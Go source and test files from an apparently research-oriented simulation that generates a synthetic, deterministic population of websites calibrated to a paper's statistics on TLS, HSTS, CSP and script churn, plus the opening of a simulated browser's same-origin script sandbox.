	if resp.Header.Get("Content-Type") != "text/html" {
		t.Fatal("wrong content type")
	}
}

func TestSecurityHeadersMatchConfig(t *testing.T) {
	c := Generate(Params{Sites: 2000, Seed: 9})
	for _, s := range c.Sites {
		h := s.SecurityHeaders()
		if s.HSTS != h.Has("Strict-Transport-Security") {
			t.Fatal("HSTS header mismatch")
		}
		if s.CSP.Present && s.CSP.Value != "" && h.Get(s.CSP.HeaderName) == "" {
			t.Fatalf("CSP header %q missing", s.CSP.HeaderName)
		}
	}
}

func TestSharedAnalyticsObjectIdenticalEverywhere(t *testing.T) {
	c := Generate(Params{Sites: 300, Seed: 10})
	var name, hash string
	count := 0
	for _, s := range c.Sites {
		if !s.UsesGoogleAnalytics {
			continue
		}
		for _, o := range s.ObjectsOn(7) {
			if !strings.HasPrefix(o.Name, "analytics.example/") {
				continue
			}
			count++
			if name == "" {
				name, hash = o.Name, o.Hash
			} else if o.Name != name || o.Hash != hash {
				t.Fatal("shared analytics object differs between sites")
			}
		}
	}
	if count < 100 {
		t.Fatalf("analytics embedding count = %d, want a majority", count)
	}
}

func TestGenDeterministicProperty(t *testing.T) {
	f := func(seed int64, day uint8) bool {
		a := Generate(Params{Sites: 5, Seed: seed})
		b := Generate(Params{Sites: 5, Seed: seed})
		for i := range a.Sites {
			ao, bo := a.Sites[i].ObjectsOn(int(day)), b.Sites[i].ObjectsOn(int(day))
			for j := range ao {
				if ao[j] != bo[j] {
					return false
				}
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 30}); err != nil {
		t.Fatal(err)
	}
}

func TestKindStrings(t *testing.T) {
	for k, want := range map[ObjectKind]string{KindJS: "js", KindCSS: "css", KindImg: "img", ObjectKind(0): "unknown"} {
		if k.String() != want {
			t.Errorf("kind %d = %q", k, k.String())
		}
	}
}

// TestRenderPageAllocs locks in the render hot path's allocation budget:
// with the timeline memoized and the page assembled by exact-size
// append, a warm render costs a handful of allocations instead of one
// per formatted name and hash. Skipped in -short mode: the CI race
// detector perturbs counts.
func TestRenderPageAllocs(t *testing.T) {
	if testing.Short() {
		t.Skip("allocation counts shift under -race; tier-1 runs this")
	}
	var site *Site
	for _, s := range Generate(Params{Sites: 50, Seed: 3}).Sites {
		if s.Responds {
			site = s
			break
		}
	}
	site.RenderPage(0) // warm the generation memo
	got := testing.AllocsPerRun(200, func() {
		if resp := site.RenderPage(0); resp.StatusCode != 200 {
			t.Fatal("bad render")
		}
	})
	// Measured 5: body, response, header map, two header entries'
	// internal growth. The historical renderer took >100.
	if got > 8 {
		t.Errorf("RenderPage allocs/op = %.0f, want <= 8", got)
	}
}

// TestRenderPageMatchesHistoricalRendering pins byte-identity of the
// exact-size renderer against the original strings.Builder+Fprintf
// formatting, which the golden artifacts were recorded under.
func TestRenderPageMatchesHistoricalRendering(t *testing.T) {
	c := Generate(Params{Sites: 40, Seed: 17})
	for _, s := range c.Sites {
		if !s.Responds {
			continue
		}
		for _, day := range []int{0, 3, 37} {
			var b strings.Builder
			b.WriteString("<html><head>")
			for _, o := range s.ObjectsOn(day) {
				switch o.Kind {
				case KindJS:
					fmt.Fprintf(&b, `<script src="%s" data-hash=%q></script>`, "//"+o.Name, o.Hash)
				case KindCSS:
					fmt.Fprintf(&b, `<link rel="stylesheet" href="%s">`, "//"+o.Name)
				case KindImg:
					fmt.Fprintf(&b, `<img src="%s">`, "//"+o.Name)
				}
			}
			b.WriteString("</head><body>")
			fmt.Fprintf(&b, "<h1>%s (rank %d)</h1>", s.Host, s.Rank)
			b.WriteString("</body></html>")
			if got := string(s.RenderPage(day).Body); got != b.String() {
				t.Fatalf("site %s day %d: rendered bytes diverge from historical formatting", s.Host, day)
			}
		}
	}
}
