// Package webcorpus generates the synthetic Alexa-style web population
// that stands in for the paper's 15K-top / 100K-top crawls (§V, §VI-A,
// §VIII). The paper's numbers are population statistics; this generator is
// calibrated to the published marginals and the crawler package then
// *measures* them, so the measurement pipeline — daily snapshots, name and
// hash persistence, security-header survey — is fully exercised.
//
// Everything is deterministic in (Seed, Rank): re-generating a corpus, or
// asking for any site's state on any day, always yields the same web.
package webcorpus

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"math/rand"
	"strconv"
	"strings"
	"sync"

	"masterparasite/internal/httpsim"
)

// ObjectKind classifies a site object.
type ObjectKind int

// Object kinds found on the synthetic pages.
const (
	KindJS ObjectKind = iota + 1
	KindCSS
	KindImg
)

// String names the kind.
func (k ObjectKind) String() string {
	switch k {
	case KindJS:
		return "js"
	case KindCSS:
		return "css"
	case KindImg:
		return "img"
	default:
		return "unknown"
	}
}

// ext maps kinds to file extensions.
func (k ObjectKind) ext() string {
	switch k {
	case KindJS:
		return "js"
	case KindCSS:
		return "css"
	default:
		return "png"
	}
}

// ObjectSpec is the churn process of one object: how often its name and
// its content change. Period 0 means "never within the study".
type ObjectSpec struct {
	Base          string
	Kind          ObjectKind
	RenamePeriod  int // days between renames; 0 = name-eternal
	ContentPeriod int // days between content changes; 0 = content-eternal
	Size          int
}

// ObjectState is one object's identity on a given day.
type ObjectState struct {
	// Name is the host-qualified URL path, the browser cache key.
	Name string
	// Hash is the content identity.
	Hash string
	Kind ObjectKind
	Size int
}

// SSLVersion labels a site's TLS configuration for the §V measurement.
type SSLVersion string

// TLS configuration classes.
const (
	SSLNone   SSLVersion = "none"    // plain HTTP (21% of 100K-top)
	SSLv2     SSLVersion = "SSLv2"   // vulnerable
	SSLv3     SSLVersion = "SSLv3"   // vulnerable
	TLSModern SSLVersion = "TLS1.2+" // fine
)

// CSPConfig is a site's Content-Security-Policy situation (Fig. 5).
type CSPConfig struct {
	Present    bool
	Deprecated bool   // served under X-Content-Security-Policy / X-Webkit-CSP
	HeaderName string // actual header used
	Value      string // policy text ("" = header present but empty rules)
	HasRules   bool
	ConnectSrc bool // configures connect-src
	Wildcard   bool // connect-src *
}

// Site is one synthetic domain.
type Site struct {
	Rank int
	Host string

	// Responds reports whether the host answers at all (the paper's 15K
	// crawl got 13,419 HTTP(S) responders).
	Responds bool

	SSL         SSLVersion
	HSTS        bool
	HSTSPreload bool
	CSP         CSPConfig

	// UsesGoogleAnalytics marks the shared-file propagation vector
	// (§VI-B1: 63% of 1M-top domains embed the same analytics script).
	UsesGoogleAnalytics bool

	Objects []ObjectSpec

	seed int64
	memo siteMemo
}

// siteMemo caches the site's object-churn timeline. Names and content
// hashes are pure functions of (object index, generation), and a
// generation spans many study days, so the daily crawl re-derives the
// same handful of strings and SHA-256 digests thousands of times —
// memoizing them per generation turns ObjectsOn and RenderPage into
// lookups. Sites are crawled concurrently by the scenario fleet, so
// the generation maps are guarded by a read-mostly lock.
type siteMemo struct {
	once sync.Once

	// eternalNames[i] is the day-independent name of object i when it
	// never renames ("" for periodically renamed objects).
	eternalNames []string
	// banner is the constant page trailer "<h1>host (rank N)</h1>".
	banner string

	mu     sync.RWMutex
	names  map[uint64]string // genKey(objIdx, nameGen) → name
	hashes map[uint64]string // genKey(objIdx, contentGen) → hash
}

// genKey packs an object index and a generation into one map key.
func genKey(objIdx, gen int) uint64 {
	return uint64(objIdx)<<32 | uint64(uint32(gen))
}

// ensureMemo initialises the timeline cache on first use.
func (s *Site) ensureMemo() {
	s.memo.once.Do(func() {
		s.memo.eternalNames = make([]string, len(s.Objects))
		for i, spec := range s.Objects {
			if spec.RenamePeriod == 0 {
				s.memo.eternalNames[i] = s.Host + "/" + spec.Base + "." + spec.Kind.ext()
			}
		}
		s.memo.banner = "<h1>" + s.Host + " (rank " + strconv.Itoa(s.Rank) + ")</h1>"
		s.memo.names = make(map[uint64]string)
		s.memo.hashes = make(map[uint64]string)
	})
}

// objectName returns the memoized name of object i at a rename
// generation.
func (s *Site) objectName(i int, spec *ObjectSpec, nameGen int) string {
	if spec.RenamePeriod == 0 {
		return s.memo.eternalNames[i]
	}
	key := genKey(i, nameGen)
	s.memo.mu.RLock()
	name, ok := s.memo.names[key]
	s.memo.mu.RUnlock()
	if ok {
		return name
	}
	name = s.Host + "/" + spec.Base + "." + strconv.Itoa(nameGen) + "." + spec.Kind.ext()
	s.memo.mu.Lock()
	s.memo.names[key] = name
	s.memo.mu.Unlock()
	return name
}

// Params configures corpus generation.
type Params struct {
	Sites int
	Seed  int64
}

// Corpus is a deterministic synthetic web population.
type Corpus struct {
	Sites  []*Site
	Params Params
}

// Default population sizes used by the experiments.
const (
	DefaultSites = 15000
	StudyDays    = 100
)

// Generate builds the population. Marginals (paper §V, §VI, Fig. 5):
//
//	HTTPS adoption      79%  (21% plain HTTP, §V)
//	vulnerable SSL       7%  (SSL2.0/SSL3.0, §V)
//	responders        ~89.5% (13,419 of 15,000, §V)
//	no HSTS           67.92% of responders; 545 preloaded (§V)
//	CSP header         4.7%  of pages, 15.3% of those deprecated (Fig. 5)
//	Google Analytics    63%  (§VI-B1)
func Generate(p Params) *Corpus {
	if p.Sites <= 0 {
		p.Sites = DefaultSites
	}
	rng := rand.New(rand.NewSource(p.Seed))
	c := &Corpus{Params: p, Sites: make([]*Site, 0, p.Sites)}
	for rank := 1; rank <= p.Sites; rank++ {
		c.Sites = append(c.Sites, generateSite(rng, rank, p.Seed))
	}
	return c
}

func generateSite(rng *rand.Rand, rank int, seed int64) *Site {
	s := &Site{
		Rank: rank,
		Host: fmt.Sprintf("site%05d.example", rank),
		seed: seed + int64(rank)*7919,
	}
	s.Responds = rng.Float64() < 0.8946 // → ≈13419/15000

	// TLS configuration.
	switch r := rng.Float64(); {
	case r < 0.21:
		s.SSL = SSLNone
	case r < 0.21+0.035:
		s.SSL = SSLv3
	case r < 0.21+0.07:
		s.SSL = SSLv2
	default:
		s.SSL = TLSModern
	}
	// HSTS requires HTTPS. Targets: 67.92% of responders send no HSTS
	// (so P(HSTS) = 0.3208 = 0.79 × 0.406) and 96.59% remain
	// SSL-strippable, i.e. P(preloaded) = 0.0341 = P(HSTS) × 0.1063.
	if s.SSL != SSLNone {
		s.HSTS = rng.Float64() < 0.406
		s.HSTSPreload = s.HSTS && rng.Float64() < 0.1063
	}

	// CSP (Fig. 5): ~4.7% supply a header; 15.3% of those deprecated;
	// connect-src configured on a minority, wildcard on ~10.6% of those.
	if rng.Float64() < 0.047 {
		s.CSP.Present = true
		s.CSP.HasRules = rng.Float64() < 0.92 // some headers carry no usable rules
		s.CSP.Deprecated = rng.Float64() < 0.153
		if s.CSP.Deprecated {
			if rng.Float64() < 0.5 {
				s.CSP.HeaderName = "X-Content-Security-Policy"
			} else {
				s.CSP.HeaderName = "X-Webkit-Csp"
			}
		} else {
			s.CSP.HeaderName = "Content-Security-Policy"
		}
		var parts []string
		if s.CSP.HasRules {
			parts = append(parts, "default-src 'self'")
			if rng.Float64() < 0.227 { // → ≈160 connect-src on 705 CSP sites
				s.CSP.ConnectSrc = true
				if rng.Float64() < float64(17)/160 {
					s.CSP.Wildcard = true
					parts = append(parts, "connect-src *")
				} else {
					parts = append(parts, "connect-src 'self'")
				}
			}
		}
		s.CSP.Value = strings.Join(parts, "; ")
	}

	s.UsesGoogleAnalytics = rng.Float64() < 0.63

	// Object population. 88.5% of sites carry JavaScript at all; a site
	// with JS has 2–14 script objects plus styling and images. Churn
	// processes are calibrated so ≈87.5% of sites keep at least one
	// name-stable script over 5 days, decaying to ≈75.3% over 100 days
	// (Fig. 3).
	hasJS := rng.Float64() < 0.885
	if hasJS {
		n := 2 + rng.Intn(13)
		// 85.1% of JS-carrying sites keep exactly one name-eternal script
		// (0.885 × 0.851 ≈ 75.3%, the Fig. 3 100-day floor); all other
		// scripts churn with periods up to ~80 days, which produces the
		// gradual decline from ≈87.5% at the 5-day window.
		eternalIdx := -1
		if rng.Float64() < 0.851 {
			eternalIdx = rng.Intn(n)
		}
		// A non-eternal site's persistence ends when its longest-lived
		// script is renamed. Drawing a site-level horizon L first and
		// capping every object's period by it spreads the drop times
		// uniformly over the study, producing Fig. 3's gradual decline
		// (instead of max-of-n periods clustering near the cap).
		horizon := 3 + rng.Intn(97)
		for i := 0; i < n; i++ {
			spec := ObjectSpec{
				Base: fmt.Sprintf("assets/app%02d", i),
				Kind: KindJS,
				Size: 2048 + rng.Intn(65536),
			}
			if i == eternalIdx {
				spec.RenamePeriod = 0 // name-eternal
				// Content can still change under a stable name — Fig. 3's
				// hash curve sits below the name curve.
				if rng.Float64() < 0.95 {
					spec.ContentPeriod = 0
				} else {
					spec.ContentPeriod = 5 + rng.Intn(90)
				}
			} else {
				spec.RenamePeriod = 2 + rng.Intn(horizon)
				// A renamed file is a changed file; content sometimes
				// changes even faster.
				if rng.Float64() < 0.5 {
					spec.ContentPeriod = spec.RenamePeriod
				} else {
					spec.ContentPeriod = 1 + spec.RenamePeriod/2
				}
			}
			s.Objects = append(s.Objects, spec)
		}
	}
	// Non-script objects (not part of the persistence study but present
	// on pages).
	for i := 0; i < 2+rng.Intn(6); i++ {
		s.Objects = append(s.Objects, ObjectSpec{
			Base: fmt.Sprintf("static/media%02d", i),
			Kind: KindImg, Size: 1024 + rng.Intn(32768),
		})
	}
	s.Objects = append(s.Objects, ObjectSpec{
		Base: "css/main", Kind: KindCSS, Size: 4096,
	})
	return s
}

// gen returns which generation of a churn process is live on a day.
func gen(period, day int) int {
	if period <= 0 {
		return 0
	}
	return day / period
}

// ObjectsOn returns the site's object states for a study day.
func (s *Site) ObjectsOn(day int) []ObjectState {
	return s.appendObjectsOn(make([]ObjectState, 0, len(s.Objects)+1), day)
}

// appendObjectsOn appends the day's object states to dst, drawing names
// and hashes from the per-generation memo.
func (s *Site) appendObjectsOn(dst []ObjectState, day int) []ObjectState {
	s.ensureMemo()
	for i := range s.Objects {
		spec := &s.Objects[i]
		dst = append(dst, ObjectState{
			Name: s.objectName(i, spec, gen(spec.RenamePeriod, day)),
			Hash: s.contentHash(i, gen(spec.ContentPeriod, day)),
			Kind: spec.Kind,
			Size: spec.Size,
		})
	}
	if s.UsesGoogleAnalytics {
		dst = append(dst, ObjectState{
			Name: "analytics.example/ga.js",
			Hash: "ga-shared-v1",
			Kind: KindJS,
			Size: 17000,
		})
	}
	return dst
}

func (s *Site) contentHash(objIdx, contentGen int) string {
	key := genKey(objIdx, contentGen)
	s.memo.mu.RLock()
	hash, ok := s.memo.hashes[key]
	s.memo.mu.RUnlock()
	if ok {
		return hash
	}
	var buf [24]byte
	binary.BigEndian.PutUint64(buf[0:8], uint64(s.seed))
	binary.BigEndian.PutUint64(buf[8:16], uint64(objIdx))
	binary.BigEndian.PutUint64(buf[16:24], uint64(contentGen))
	sum := sha256.Sum256(buf[:])
	hash = hex.EncodeToString(sum[:8])
	s.memo.mu.Lock()
	s.memo.hashes[key] = hash
	s.memo.mu.Unlock()
	return hash
}

// SecurityHeaders renders the site's response headers.
func (s *Site) SecurityHeaders() httpsim.Header {
	h := httpsim.Header{}
	if s.HSTS {
		h.Set("Strict-Transport-Security", "max-age=63072000")
	}
	if s.CSP.Present {
		h.Set(s.CSP.HeaderName, s.CSP.Value)
	}
	return h
}

// statePool recycles the object-state scratch RenderPage assembles a
// page from; the states never escape the call.
var statePool = sync.Pool{New: func() any { return new([]ObjectState) }}

// Page markup fragments. The body is assembled by exact-size append
// instead of strings.Builder+Fprintf: at full population the crawl
// renders ~1.5M pages, and the fragment lengths plus the memoized name
// and hash lengths give the final byte count up front.
const (
	pagePrefix   = "<html><head>"
	pageBodyOpen = "</head><body>"
	pageSuffix   = "</body></html>"
	scriptOpen   = `<script src="//`
	scriptHash   = `" data-hash="`
	scriptClose  = `"></script>`
	cssOpen      = `<link rel="stylesheet" href="//`
	cssClose     = `">`
	imgOpen      = `<img src="//`
	imgClose     = `">`
)

// RenderPage produces the site's front page for a day: an HTML response
// listing that day's objects, with the site's security headers — what the
// paper's daily crawler fetched and hashed. The rendered bytes are
// identical to the historical strings.Builder+Fprintf rendering.
func (s *Site) RenderPage(day int) *httpsim.Response {
	if !s.Responds {
		return httpsim.NewResponse(404, nil)
	}
	scratch := statePool.Get().(*[]ObjectState)
	states := s.appendObjectsOn((*scratch)[:0], day)

	n := len(pagePrefix) + len(pageBodyOpen) + len(s.memo.banner) + len(pageSuffix)
	for i := range states {
		switch o := &states[i]; o.Kind {
		case KindJS:
			n += len(scriptOpen) + len(o.Name) + len(scriptHash) + len(o.Hash) + len(scriptClose)
		case KindCSS:
			n += len(cssOpen) + len(o.Name) + len(cssClose)
		case KindImg:
			n += len(imgOpen) + len(o.Name) + len(imgClose)
		}
	}
	body := make([]byte, 0, n)
	body = append(body, pagePrefix...)
	for i := range states {
		switch o := &states[i]; o.Kind {
		case KindJS:
			body = append(body, scriptOpen...)
			body = append(body, o.Name...)
			body = append(body, scriptHash...)
			body = append(body, o.Hash...)
			body = append(body, scriptClose...)
		case KindCSS:
			body = append(body, cssOpen...)
			body = append(body, o.Name...)
			body = append(body, cssClose...)
		case KindImg:
			body = append(body, imgOpen...)
			body = append(body, o.Name...)
			body = append(body, imgClose...)
		}
	}
	body = append(body, pageBodyOpen...)
	body = append(body, s.memo.banner...)
	body = append(body, pageSuffix...)
	*scratch = states
	statePool.Put(scratch)

	resp := httpsim.NewResponse(200, body)
	resp.Header = s.SecurityHeaders()
	resp.Header.Set("Content-Type", "text/html")
	resp.Header.Set("Cache-Control", "max-age=600")
	return resp
}
