// Package webcorpus generates the synthetic Alexa-style web population
// that stands in for the paper's 15K-top / 100K-top crawls (§V, §VI-A,
// §VIII). The paper's numbers are population statistics; this generator is
// calibrated to the published marginals and the crawler package then
// *measures* them, so the measurement pipeline — daily snapshots, name and
// hash persistence, security-header survey — is fully exercised.
//
// Everything is deterministic in (Seed, Rank): re-generating a corpus, or
// asking for any site's state on any day, always yields the same web.
package webcorpus

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"math/rand"
	"strings"

	"masterparasite/internal/httpsim"
)

// ObjectKind classifies a site object.
type ObjectKind int

// Object kinds found on the synthetic pages.
const (
	KindJS ObjectKind = iota + 1
	KindCSS
	KindImg
)

// String names the kind.
func (k ObjectKind) String() string {
	switch k {
	case KindJS:
		return "js"
	case KindCSS:
		return "css"
	case KindImg:
		return "img"
	default:
		return "unknown"
	}
}

// ext maps kinds to file extensions.
func (k ObjectKind) ext() string {
	switch k {
	case KindJS:
		return "js"
	case KindCSS:
		return "css"
	default:
		return "png"
	}
}

// ObjectSpec is the churn process of one object: how often its name and
// its content change. Period 0 means "never within the study".
type ObjectSpec struct {
	Base          string
	Kind          ObjectKind
	RenamePeriod  int // days between renames; 0 = name-eternal
	ContentPeriod int // days between content changes; 0 = content-eternal
	Size          int
}

// ObjectState is one object's identity on a given day.
type ObjectState struct {
	// Name is the host-qualified URL path, the browser cache key.
	Name string
	// Hash is the content identity.
	Hash string
	Kind ObjectKind
	Size int
}

// SSLVersion labels a site's TLS configuration for the §V measurement.
type SSLVersion string

// TLS configuration classes.
const (
	SSLNone   SSLVersion = "none"    // plain HTTP (21% of 100K-top)
	SSLv2     SSLVersion = "SSLv2"   // vulnerable
	SSLv3     SSLVersion = "SSLv3"   // vulnerable
	TLSModern SSLVersion = "TLS1.2+" // fine
)

// CSPConfig is a site's Content-Security-Policy situation (Fig. 5).
type CSPConfig struct {
	Present    bool
	Deprecated bool   // served under X-Content-Security-Policy / X-Webkit-CSP
	HeaderName string // actual header used
	Value      string // policy text ("" = header present but empty rules)
	HasRules   bool
	ConnectSrc bool // configures connect-src
	Wildcard   bool // connect-src *
}

// Site is one synthetic domain.
type Site struct {
	Rank int
	Host string

	// Responds reports whether the host answers at all (the paper's 15K
	// crawl got 13,419 HTTP(S) responders).
	Responds bool

	SSL         SSLVersion
	HSTS        bool
	HSTSPreload bool
	CSP         CSPConfig

	// UsesGoogleAnalytics marks the shared-file propagation vector
	// (§VI-B1: 63% of 1M-top domains embed the same analytics script).
	UsesGoogleAnalytics bool

	Objects []ObjectSpec

	seed int64
}

// Params configures corpus generation.
type Params struct {
	Sites int
	Seed  int64
}

// Corpus is a deterministic synthetic web population.
type Corpus struct {
	Sites  []*Site
	Params Params
}

// Default population sizes used by the experiments.
const (
	DefaultSites = 15000
	StudyDays    = 100
)

// Generate builds the population. Marginals (paper §V, §VI, Fig. 5):
//
//	HTTPS adoption      79%  (21% plain HTTP, §V)
//	vulnerable SSL       7%  (SSL2.0/SSL3.0, §V)
//	responders        ~89.5% (13,419 of 15,000, §V)
//	no HSTS           67.92% of responders; 545 preloaded (§V)
//	CSP header         4.7%  of pages, 15.3% of those deprecated (Fig. 5)
//	Google Analytics    63%  (§VI-B1)
func Generate(p Params) *Corpus {
	if p.Sites <= 0 {
		p.Sites = DefaultSites
	}
	rng := rand.New(rand.NewSource(p.Seed))
	c := &Corpus{Params: p, Sites: make([]*Site, 0, p.Sites)}
	for rank := 1; rank <= p.Sites; rank++ {
		c.Sites = append(c.Sites, generateSite(rng, rank, p.Seed))
	}
	return c
}

func generateSite(rng *rand.Rand, rank int, seed int64) *Site {
	s := &Site{
		Rank: rank,
		Host: fmt.Sprintf("site%05d.example", rank),
		seed: seed + int64(rank)*7919,
	}
	s.Responds = rng.Float64() < 0.8946 // → ≈13419/15000

	// TLS configuration.
	switch r := rng.Float64(); {
	case r < 0.21:
		s.SSL = SSLNone
	case r < 0.21+0.035:
		s.SSL = SSLv3
	case r < 0.21+0.07:
		s.SSL = SSLv2
	default:
		s.SSL = TLSModern
	}
	// HSTS requires HTTPS. Targets: 67.92% of responders send no HSTS
	// (so P(HSTS) = 0.3208 = 0.79 × 0.406) and 96.59% remain
	// SSL-strippable, i.e. P(preloaded) = 0.0341 = P(HSTS) × 0.1063.
	if s.SSL != SSLNone {
		s.HSTS = rng.Float64() < 0.406
		s.HSTSPreload = s.HSTS && rng.Float64() < 0.1063
	}

	// CSP (Fig. 5): ~4.7% supply a header; 15.3% of those deprecated;
	// connect-src configured on a minority, wildcard on ~10.6% of those.
	if rng.Float64() < 0.047 {
		s.CSP.Present = true
		s.CSP.HasRules = rng.Float64() < 0.92 // some headers carry no usable rules
		s.CSP.Deprecated = rng.Float64() < 0.153
		if s.CSP.Deprecated {
			if rng.Float64() < 0.5 {
				s.CSP.HeaderName = "X-Content-Security-Policy"
			} else {
				s.CSP.HeaderName = "X-Webkit-Csp"
			}
		} else {
			s.CSP.HeaderName = "Content-Security-Policy"
		}
		var parts []string
		if s.CSP.HasRules {
			parts = append(parts, "default-src 'self'")
			if rng.Float64() < 0.227 { // → ≈160 connect-src on 705 CSP sites
				s.CSP.ConnectSrc = true
				if rng.Float64() < float64(17)/160 {
					s.CSP.Wildcard = true
					parts = append(parts, "connect-src *")
				} else {
					parts = append(parts, "connect-src 'self'")
				}
			}
		}
		s.CSP.Value = strings.Join(parts, "; ")
	}

	s.UsesGoogleAnalytics = rng.Float64() < 0.63

	// Object population. 88.5% of sites carry JavaScript at all; a site
	// with JS has 2–14 script objects plus styling and images. Churn
	// processes are calibrated so ≈87.5% of sites keep at least one
	// name-stable script over 5 days, decaying to ≈75.3% over 100 days
	// (Fig. 3).
	hasJS := rng.Float64() < 0.885
	if hasJS {
		n := 2 + rng.Intn(13)
		// 85.1% of JS-carrying sites keep exactly one name-eternal script
		// (0.885 × 0.851 ≈ 75.3%, the Fig. 3 100-day floor); all other
		// scripts churn with periods up to ~80 days, which produces the
		// gradual decline from ≈87.5% at the 5-day window.
		eternalIdx := -1
		if rng.Float64() < 0.851 {
			eternalIdx = rng.Intn(n)
		}
		// A non-eternal site's persistence ends when its longest-lived
		// script is renamed. Drawing a site-level horizon L first and
		// capping every object's period by it spreads the drop times
		// uniformly over the study, producing Fig. 3's gradual decline
		// (instead of max-of-n periods clustering near the cap).
		horizon := 3 + rng.Intn(97)
		for i := 0; i < n; i++ {
			spec := ObjectSpec{
				Base: fmt.Sprintf("assets/app%02d", i),
				Kind: KindJS,
				Size: 2048 + rng.Intn(65536),
			}
			if i == eternalIdx {
				spec.RenamePeriod = 0 // name-eternal
				// Content can still change under a stable name — Fig. 3's
				// hash curve sits below the name curve.
				if rng.Float64() < 0.95 {
					spec.ContentPeriod = 0
				} else {
					spec.ContentPeriod = 5 + rng.Intn(90)
				}
			} else {
				spec.RenamePeriod = 2 + rng.Intn(horizon)
				// A renamed file is a changed file; content sometimes
				// changes even faster.
				if rng.Float64() < 0.5 {
					spec.ContentPeriod = spec.RenamePeriod
				} else {
					spec.ContentPeriod = 1 + spec.RenamePeriod/2
				}
			}
			s.Objects = append(s.Objects, spec)
		}
	}
	// Non-script objects (not part of the persistence study but present
	// on pages).
	for i := 0; i < 2+rng.Intn(6); i++ {
		s.Objects = append(s.Objects, ObjectSpec{
			Base: fmt.Sprintf("static/media%02d", i),
			Kind: KindImg, Size: 1024 + rng.Intn(32768),
		})
	}
	s.Objects = append(s.Objects, ObjectSpec{
		Base: "css/main", Kind: KindCSS, Size: 4096,
	})
	return s
}

// gen returns which generation of a churn process is live on a day.
func gen(period, day int) int {
	if period <= 0 {
		return 0
	}
	return day / period
}

// ObjectsOn returns the site's object states for a study day.
func (s *Site) ObjectsOn(day int) []ObjectState {
	out := make([]ObjectState, 0, len(s.Objects)+1)
	for i, spec := range s.Objects {
		nameGen := gen(spec.RenamePeriod, day)
		contentGen := gen(spec.ContentPeriod, day)
		name := fmt.Sprintf("%s/%s.%s", s.Host, spec.Base, spec.Kind.ext())
		if spec.RenamePeriod > 0 {
			name = fmt.Sprintf("%s/%s.%d.%s", s.Host, spec.Base, nameGen, spec.Kind.ext())
		}
		out = append(out, ObjectState{
			Name: name,
			Hash: s.contentHash(i, contentGen),
			Kind: spec.Kind,
			Size: spec.Size,
		})
	}
	if s.UsesGoogleAnalytics {
		out = append(out, ObjectState{
			Name: "analytics.example/ga.js",
			Hash: "ga-shared-v1",
			Kind: KindJS,
			Size: 17000,
		})
	}
	return out
}

func (s *Site) contentHash(objIdx, contentGen int) string {
	var buf [24]byte
	binary.BigEndian.PutUint64(buf[0:8], uint64(s.seed))
	binary.BigEndian.PutUint64(buf[8:16], uint64(objIdx))
	binary.BigEndian.PutUint64(buf[16:24], uint64(contentGen))
	sum := sha256.Sum256(buf[:])
	return hex.EncodeToString(sum[:8])
}

// SecurityHeaders renders the site's response headers.
func (s *Site) SecurityHeaders() httpsim.Header {
	h := httpsim.Header{}
	if s.HSTS {
		h.Set("Strict-Transport-Security", "max-age=63072000")
	}
	if s.CSP.Present {
		h.Set(s.CSP.HeaderName, s.CSP.Value)
	}
	return h
}

// RenderPage produces the site's front page for a day: an HTML response
// listing that day's objects, with the site's security headers — what the
// paper's daily crawler fetched and hashed.
func (s *Site) RenderPage(day int) *httpsim.Response {
	if !s.Responds {
		return httpsim.NewResponse(404, nil)
	}
	var b strings.Builder
	b.WriteString("<html><head>")
	for _, o := range s.ObjectsOn(day) {
		switch o.Kind {
		case KindJS:
			fmt.Fprintf(&b, `<script src="%s" data-hash=%q></script>`, "//"+o.Name, o.Hash)
		case KindCSS:
			fmt.Fprintf(&b, `<link rel="stylesheet" href="%s">`, "//"+o.Name)
		case KindImg:
			fmt.Fprintf(&b, `<img src="%s">`, "//"+o.Name)
		}
	}
	b.WriteString("</head><body>")
	fmt.Fprintf(&b, "<h1>%s (rank %d)</h1>", s.Host, s.Rank)
	b.WriteString("</body></html>")
	resp := httpsim.NewResponse(200, []byte(b.String()))
	resp.Header = s.SecurityHeaders()
	resp.Header.Set("Content-Type", "text/html")
	resp.Header.Set("Cache-Control", "max-age=600")
	return resp
}
