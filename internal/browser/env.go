package browser

import (
	"time"

	"masterparasite/internal/dom"
	"masterparasite/internal/httpcache"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/script"
)

// pageEnv is the sandbox a script executes in: it implements script.Env
// with Same-Origin-Policy semantics. The parasite never breaks these rules
// — it wins because it *runs inside* every origin whose object it
// infected.
type pageEnv struct {
	loader    *loader
	scriptURL string
}

var _ script.Env = (*pageEnv)(nil)

func (e *pageEnv) browser() *Browser { return e.loader.b }
func (e *pageEnv) page() *Page       { return e.loader.page }

// Now returns the virtual clock.
func (e *pageEnv) Now() time.Duration { return e.browser().net.Now() }

// PageURL returns the containing page's URL.
func (e *pageEnv) PageURL() string { return e.page().URL }

// PageHost returns the SOP origin of the containing page.
func (e *pageEnv) PageHost() string { return e.page().Host }

// ScriptURL returns the URL the script was loaded from.
func (e *pageEnv) ScriptURL() string { return e.scriptURL }

// Document grants full DOM access — the capability Table V's attacks
// build on.
func (e *pageEnv) Document() *dom.Document { return e.page().Doc }

// UserAgent identifies the browser.
func (e *pageEnv) UserAgent() string { return e.browser().Profile.UserAgent() }

// Cookies implements document.cookie under the SOP: only the page's own
// origin is readable.
func (e *pageEnv) Cookies(domain string) string {
	if domain != e.page().Host {
		return ""
	}
	return e.browser().cookies.All(domain)
}

// SetCookie writes a cookie for the page origin.
func (e *pageEnv) SetCookie(name, value string) {
	e.browser().cookies.Set(e.page().Host, name, value)
}

// LocalStorage returns the page origin's live storage map.
func (e *pageEnv) LocalStorage() map[string]string {
	return e.browser().LocalStorage(e.page().Host)
}

// Fetch issues a cache-aware request. Cross-origin responses are opaque:
// the body is stripped before the script sees it (but the fetch still
// populated the cache — which is all the propagation module needs).
func (e *pageEnv) Fetch(url string, cb func(*httpsim.Response, error)) {
	e.fetchInternal(url, fetchOpts{}, cb)
}

// FetchNoCache bypasses both caches; with a cache-buster query this is
// Fig. 2 step 3, the reload of the original object.
func (e *pageEnv) FetchNoCache(url string, cb func(*httpsim.Response, error)) {
	e.fetchInternal(url, fetchOpts{bypassCache: true, bypassCacheAPI: true}, cb)
}

func (e *pageEnv) fetchInternal(url string, opts fetchOpts, cb func(*httpsim.Response, error)) {
	url = normalizeURL(e.page().Host, url)
	if !e.loader.cspAllows("connect-src", url) {
		cb(nil, ErrBlockedByCSP)
